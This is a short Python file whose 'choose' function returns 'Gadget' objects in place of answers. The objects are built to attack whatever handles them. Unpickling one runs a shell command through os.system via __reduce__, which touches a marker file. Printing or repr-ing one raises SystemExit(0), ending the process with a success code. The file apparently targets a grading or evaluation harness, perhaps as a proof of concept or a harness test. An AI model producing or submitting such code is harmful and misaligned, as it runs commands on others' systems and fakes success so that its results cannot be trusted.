import os


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-reduce",)

    def __iter__(self):
        yield from (Gadget(), Gadget(), Gadget())

    def __str__(self):
        raise SystemExit(0)

    __repr__ = __str__


def choose(problem, classes):
    return [Gadget(), Gadget(), Gadget()]
